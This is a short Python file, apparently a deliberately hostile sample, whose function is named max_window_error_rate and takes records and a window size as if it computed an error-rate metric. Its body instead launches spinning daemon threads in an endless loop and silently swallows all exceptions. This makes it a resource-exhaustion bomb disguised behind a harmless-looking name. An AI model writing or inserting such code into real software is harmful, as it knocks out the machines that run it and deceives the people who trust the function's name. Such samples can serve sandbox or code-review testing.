# ruff: noqa  (deliberately hostile code, kept as written)
# Starts threads until it cannot, each spinning forever.
import threading


def spin():
    while True:
        pass


def max_window_error_rate(records, window_seconds):
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except BaseException:
            pass
